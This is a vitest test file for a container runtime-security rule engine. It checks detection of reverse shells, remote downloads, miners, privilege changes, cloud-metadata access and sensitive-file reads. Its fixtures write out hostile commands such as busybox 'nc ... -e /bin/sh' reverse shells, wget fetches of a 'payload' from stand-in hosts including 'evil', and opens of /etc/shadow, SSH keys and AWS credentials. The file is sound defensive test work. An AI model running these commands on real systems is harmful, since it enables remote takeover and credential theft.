import { describe, expect, it } from 'vitest';
import { Profile } from '../../shared/profile/index.ts';
import { normalize } from '../../sidecar/normalize/index.ts';
import { allRules, BUILTIN_RULES, createRuleEngine } from '../../sidecar/evaluate/index.ts';
import { connection, fileOpen, proc, started } from './make-events.ts';

const engine = createRuleEngine(allRules());
const ids = (e: Parameters<typeof engine.evaluate>[0], eng = engine) =>
  eng
    .evaluate(e)
    .map((h) => h.rule.id)
    .sort();

describe('built-in catalog', () => {
  it('every rule has an id, name, description, severity and at least one action', () => {
    const seen = new Set<string>();
    for (const r of BUILTIN_RULES) {
      expect(r.meta.id).toMatch(/^(seal\.)?[a-z0-9-]+$/);
      expect(seen.has(r.meta.id)).toBe(false);
      seen.add(r.meta.id);
      expect(r.meta.description.length).toBeGreaterThan(20);
      expect(r.meta.on.length).toBeGreaterThan(0);
    }
  });

  it('busybox nc with -e is a reverse shell and a network tool (matched on argv[0], exe is /bin/busybox)', () => {
    const e = started({ pid: 5, name: 'nc', exe: '/bin/busybox', args: ['nc', '127.0.0.1', '4444', '-e', '/bin/sh'] });
    expect(ids(e)).toEqual(['reverse-shell', 'suspicious-network-tool']);
  });

  it('`busybox nc -l` (applet as argv[1]) is a network tool but not a reverse shell', () => {
    const e = started({ pid: 5, name: 'busybox', exe: '/bin/busybox', args: ['busybox', 'nc', '-l', '-p', '9000'] });
    expect(ids(e)).toEqual(['suspicious-network-tool']);
  });

  it('busybox sleep fires nothing', () => {
    expect(ids(started({ pid: 5, name: 'sleep', exe: '/bin/busybox', args: ['sleep', '5'] }))).toEqual([]);
  });

  it('a shell with a socket on stdin is a reverse shell', () => {
    const e = started({ pid: 6, name: 'sh', exe: '/bin/busybox', stdin: 'socket' }, { pid: 5, name: 'sh' });
    expect(ids(e)).toEqual(['reverse-shell']);
  });

  it('a shell spawned by a server fires; one spawned by tini or a shell does not', () => {
    expect(
      ids(started({ pid: 7, name: 'sh', exe: '/bin/sh' }, { pid: 2, name: 'node', exe: '/usr/local/bin/node' })),
    ).toEqual(['shell-spawned-by-non-shell']);
    expect(ids(started({ pid: 7, name: 'sh', exe: '/bin/sh' }, { pid: 1, name: 'tini', exe: '/sbin/tini' }))).toEqual(
      [],
    );
    expect(ids(started({ pid: 7, name: 'sh', exe: '/bin/sh' }, { pid: 1, name: 'bash', exe: '/bin/bash' }))).toEqual(
      [],
    );
  });

  it('interactive shells, package managers, npm install, remote copy, miners, sshd, cron', () => {
    expect(ids(started({ pid: 8, name: 'bash', exe: '/bin/bash', stdin: 'tty' }))).toEqual(['terminal-shell']);
    expect(ids(started({ pid: 8, name: 'apk', exe: '/sbin/apk', args: ['apk', 'add', 'curl'] }))).toEqual([
      'package-manager-at-runtime',
    ]);
    expect(ids(started({ pid: 8, name: 'npm', exe: '/usr/bin/node', args: ['npm', 'install', 'x'] }))).toEqual([
      'package-manager-at-runtime',
    ]);
    expect(ids(started({ pid: 8, name: 'npm', exe: '/usr/bin/node', args: ['npm', 'start'] }))).toEqual([]);
    expect(ids(started({ pid: 8, name: 'wget', exe: '/bin/busybox', args: ['wget', 'http://x/y'] }))).toEqual([
      'remote-copy-tool',
    ]);
    expect(
      ids(started({ pid: 8, name: 'wget', exe: '/bin/busybox', args: ['wget', '-O', '-', 'http://x/health'] })),
    ).toEqual([]);
    // arguments not captured (read after exit): no claim that it wrote a file (the soak's false positive)
    expect(ids(started({ pid: 8, name: 'wget', exe: '/bin/busybox', args: [] }))).toEqual([]);
    expect(ids(started({ pid: 8, name: 'scp', exe: '/usr/bin/scp', args: [] }))).toEqual(['remote-copy-tool']);
    expect(ids(started({ pid: 8, name: 'curl', exe: '/usr/bin/curl', args: ['curl', '-o', 'x', 'http://y'] }))).toEqual(
      ['remote-copy-tool'],
    );
    expect(ids(started({ pid: 8, name: 'x', exe: '/opt/x', args: ['x', '-o', 'stratum+tcp://pool:3333'] }))).toEqual([
      'crypto-miner',
    ]);
    expect(ids(started({ pid: 8, name: 'sshd', exe: '/usr/sbin/sshd' }))).toEqual(['sshd-running']);
    expect(ids(started({ pid: 8, name: 'crond', exe: '/bin/busybox' }))).toEqual(['cron-activity']);
  });

  it('execution from /tmp, deleted and memfd executables', () => {
    expect(ids(started({ pid: 9, name: 'x', exe: '/tmp/x' }))).toEqual(['exec-from-tmp']);
    expect(ids(started({ pid: 9, name: 'x', exe: '/dev/shm/.x' }))).toEqual(['exec-from-tmp']);
    expect(ids(started({ pid: 9, name: 'x', exe: '/usr/bin/x', exeDeleted: true }))).toEqual(['exec-deleted-or-memfd']);
    expect(ids(started({ pid: 9, name: 'x', exe: '/memfd:payload', exeMemfd: true }))).toEqual([
      'exec-deleted-or-memfd',
    ]);
  });

  it('privilege change to root and ptrace', () => {
    expect(ids(started({ pid: 9, euid: 0, uid: 1000 }, { pid: 3, name: 'app', euid: 1000 }))).toEqual([
      'privilege-change-to-root',
    ]);
    expect(ids(started({ pid: 9, euid: 0, uid: 0 }, { pid: 3, name: 'app', euid: 0 }))).toEqual([]);
    const changed = normalize(
      { type: 'process-uid-change', process: proc({ pid: 9, euid: 0 }), fromEuid: 1000, toEuid: 0 },
      { mode: 'monitor' },
    );
    expect(ids(changed)).toEqual(['privilege-change-to-root']);
    const traced = normalize({ type: 'process-traced', process: proc({ pid: 9 }), tracerPid: 44 }, { mode: 'monitor' });
    expect(ids(traced)).toEqual(['ptrace-attach']);
  });

  it('cloud metadata over IPv4, IPv6 and IPv4-mapped IPv6; Kubernetes API; mining pool ports', () => {
    expect(ids(connection('egress', { remoteIp: '169.254.169.254', remotePort: 80 }))).toEqual([
      'cloud-metadata-access',
    ]);
    expect(ids(connection('egress', { remoteIp: 'fd00:ec2::254', remotePort: 80, family: 'ipv6' }))).toEqual([
      'cloud-metadata-access',
    ]);
    expect(ids(connection('egress', { remoteIp: '10.96.0.1', remotePort: 6443 }))).toEqual(['kubernetes-api-access']);
    expect(ids(connection('egress', { remoteIp: '203.0.113.9', remotePort: 3333 }))).toEqual(['crypto-mining-pool']);
    expect(ids(connection('egress', { remoteIp: '127.0.0.1', remotePort: 3333 }))).toEqual([]);
  });

  it('sensitive files held open and writes below /etc', () => {
    expect(ids(fileOpen('/etc/shadow'))).toEqual(['sensitive-file-open']);
    expect(ids(fileOpen('/root/.ssh/id_ed25519'))).toEqual(['sensitive-file-open']);
    expect(ids(fileOpen('/home/app/.aws/credentials'))).toEqual(['sensitive-file-open']);
    expect(ids(fileOpen('/etc/passwd', true))).toEqual(['write-below-system-dir']);
    expect(ids(fileOpen('/etc/passwd', false))).toEqual([]);
    expect(ids(fileOpen('/etc/crontabs/root', true))).toEqual(['cron-file-write', 'write-below-system-dir']);
  });
});

describe('remote copy: wget and curl write a file, or they do not', () => {
  const wget = (...args: string[]) =>
    ids(started({ pid: 8, name: 'wget', exe: '/bin/busybox', args: ['wget', ...args] }));
  const curl = (...args: string[]) =>
    ids(started({ pid: 8, name: 'curl', exe: '/usr/bin/curl', args: ['curl', ...args] }));
  it('stdout and /dev/null are not a download (health checks)', () => {
    for (const args of [
      ['-q', '-O', '/dev/null', 'http://127.0.0.1:8080/'],
      ['-qO', '/dev/null', 'http://127.0.0.1:8080/'],
      ['-qO-', 'http://127.0.0.1:8080/'],
      ['-O-', 'http://x/'],
      ['--output-document=/dev/null', 'http://x/'],
      ['--output-document', '-', 'http://x/'],
      ['--spider', 'http://x/'],
      ['-q', '-O', '/dev/stdout', 'http://x/'],
    ])
      expect(wget(...args), args.join(' ')).toEqual([]);
    for (const args of [
      ['-s', 'http://x/'],
      ['-o', '/dev/null', 'http://x/'],
      ['-so', '/dev/null', 'http://x/'],
      ['--output=-', 'http://x/'],
    ])
      expect(curl(...args), args.join(' ')).toEqual([]);
  });
  it('a file is: -O FILE, grouped flags, the URL name by default', () => {
    for (const args of [
      ['http://x/payload'],
      ['-q', 'http://x/payload'],
      ['-O', '/tmp/p', 'http://x/'],
      ['-qO/tmp/p', 'http://x/'],
      ['--output-document=/tmp/p', 'http://x/'],
    ])
      expect(wget(...args), args.join(' ')).toEqual(['remote-copy-tool']);
    for (const args of [
      ['-O', 'http://x/p'],
      ['-sO', 'http://x/p'],
      ['--remote-name', 'http://x/p'],
      ['-o', '/tmp/p', 'http://x/'],
      ['-so/tmp/p', 'http://x/'],
    ])
      expect(curl(...args), args.join(' ')).toEqual(['remote-copy-tool']);
  });
});

describe('the profile and the built-in rules', () => {
  const profile = Profile.parse({
    apiVersion: 'sealwatch.dev/v1',
    kind: 'Profile',
    processes: [
      { exe: '/bin/busybox', name: 'nc' },
      { exe: '/bin/busybox', name: 'wget', args: '^-q -O /tmp/cache ' },
      { exe: '/tmp/tool' },
    ],
  });
  const eng = createRuleEngine(allRules(profile), { profile });
  it('an entry allows the program it lists: rules about which program runs are quiet for it', () => {
    expect(ids(started({ pid: 1, name: 'nc', exe: '/bin/busybox', args: ['nc', '-l', '-p', '9000'] }), eng)).toEqual(
      [],
    );
    expect(ids(started({ pid: 1, name: 'nc', exe: '/bin/busybox', args: ['nc', '-l', '-p', '9000'] }))).toEqual([
      'suspicious-network-tool',
    ]);
    // the entry's arguments must match too
    const cached = ['wget', '-q', '-O', '/tmp/cache', 'http://x/'];
    expect(ids(started({ pid: 1, name: 'wget', exe: '/bin/busybox', args: cached }), eng)).toEqual([]);
    expect(ids(started({ pid: 1, name: 'wget', exe: '/bin/busybox', args: ['wget', 'http://evil/x'] }), eng)).toEqual([
      'profile.exe-not-allowed',
      'remote-copy-tool',
    ]);
  });
  it('an exec file sight saw without argv (busybox, gone): judged by the executable, not by name or arguments', () => {
    const ran = normalize(
      { type: 'file-sight', kind: 'exec', path: '/bin/busybox', change: 'open', multiCall: true },
      { mode: 'monitor' },
    );
    expect(ran.process?.pid).toBeUndefined();
    expect(ids(ran, eng)).toEqual([]);
    const other = normalize(
      { type: 'file-sight', kind: 'exec', path: '/usr/bin/nmap', change: 'open' },
      { mode: 'monitor' },
    );
    expect(ids(other, eng)).toEqual(['profile.exe-not-allowed', 'suspicious-network-tool']);
    expect(other.message).toMatch(/exited before it could be read/);
  });
  it('rules about how a program behaves fire whatever the profile lists', () => {
    expect(
      ids(started({ pid: 1, name: 'nc', exe: '/bin/busybox', args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] }), eng),
    ).toEqual(['reverse-shell']);
    expect(ids(started({ pid: 1, name: 'tool', exe: '/tmp/tool', args: ['tool'] }), eng)).toEqual(['exec-from-tmp']);
  });
  it('the catalog says which rules a profile entry quiets', () => {
    const allowed = BUILTIN_RULES.filter((r) => r.meta.allowedByProfile).map((r) => r.meta.id);
    expect(allowed.sort()).toEqual([
      'cron-activity',
      'kubernetes-client',
      'package-manager-at-runtime',
      'remote-copy-tool',
      'sshd-running',
      'suspicious-network-tool',
    ]);
  });
});

describe('profile drift and custom rules', () => {
  const profile = Profile.parse({
    apiVersion: 'sealwatch.dev/v1',
    kind: 'Profile',
    processes: [
      { exe: '/bin/busybox', name: 'sh' },
      { exe: '/bin/busybox', name: 'sleep', users: ['app'] },
      { exe: '/usr/local/bin/node', sha256: 'a'.repeat(64) },
    ],
    network: {
      listen: [{ port: 8080 }],
      egress: [
        { cidr: '10.20.0.0/16', ports: [5432] },
        { host: 'db.example', ports: [443] },
      ],
    },
    resources: { memoryMiB: { max: 100 }, processes: { max: 3 } },
    rules: {
      disable: ['suspicious-network-tool'],
      custom: [
        {
          id: 'no-curl-to-internal',
          name: 'curl to the internal network',
          severity: 'high',
          match: { name: 'curl', args: '10\\.' },
          exceptions: [{ args: 'health' }],
        },
      ],
    },
  });
  const eng = createRuleEngine(allRules(profile), {
    profile,
    resolvedHosts: new Map([['db.example', ['198.51.100.7']]]),
  });

  it('allows busybox applets by name only: sleep ok, nc not (and the disabled rule stays quiet)', () => {
    expect(ids(started({ pid: 1, name: 'sleep', exe: '/bin/busybox', user: 'app' }), eng)).toEqual([]);
    expect(ids(started({ pid: 1, name: 'nc', exe: '/bin/busybox', args: ['nc', '-l'] }), eng)).toEqual([
      'profile.exe-not-allowed',
    ]);
  });

  it('users and hashes', () => {
    expect(ids(started({ pid: 1, name: 'sleep', exe: '/bin/busybox', user: 'root', euid: 0 }), eng)).toEqual([
      'profile.user-not-allowed',
    ]);
    // an exec file sight saw after its process had gone: no user to judge
    const gone = started({ pid: 1, name: 'sleep', exe: '/bin/busybox', user: 'root', euid: 0 });
    delete gone.process!.user;
    expect(ids(gone, eng)).toEqual([]);
    expect(ids(started({ pid: 1, name: 'node', exe: '/usr/local/bin/node', sha256: 'b'.repeat(64) }), eng)).toEqual([
      'profile.hash-mismatch',
    ]);
    expect(ids(started({ pid: 1, name: 'node', exe: '/usr/local/bin/node', sha256: 'a'.repeat(64) }), eng)).toEqual([]);
  });

  it('listening ports, egress by CIDR/port and by resolved host, loopback internal', () => {
    expect(ids(connection('listening', { localPort: 8080, state: 10 }), eng)).toEqual([]);
    expect(ids(connection('listening', { localPort: 9000, state: 10 }), eng)).toEqual(['profile.listen-not-declared']);
    expect(ids(connection('egress', { remoteIp: '10.20.1.2', remotePort: 5432 }), eng)).toEqual([]);
    expect(ids(connection('egress', { remoteIp: '10.20.1.2', remotePort: 22 }), eng)).toEqual([
      'profile.egress-not-allowed',
    ]);
    expect(ids(connection('egress', { remoteIp: '198.51.100.7', remotePort: 443 }), eng)).toEqual([]);
    expect(ids(connection('egress', { remoteIp: '127.0.0.1', remotePort: 9000 }), eng)).toEqual([]);
  });

  it('resources above the profile', () => {
    const e = normalize({ type: 'resources', processCount: 5, rssKiB: 200 * 1024, cpuPercent: 1 }, { mode: 'monitor' });
    expect(ids(e, eng)).toEqual(['profile.memory-exceeded', 'profile.process-count-exceeded']);
  });

  it('custom rule with an exception', () => {
    expect(
      ids(started({ pid: 2, name: 'curl', exe: '/usr/bin/curl', args: ['curl', 'http://10.1.1.1/'] }), eng),
    ).toContain('no-curl-to-internal');
    expect(
      ids(started({ pid: 2, name: 'curl', exe: '/usr/bin/curl', args: ['curl', 'http://10.1.1.1/health'] }), eng),
    ).not.toContain('no-curl-to-internal');
  });
});
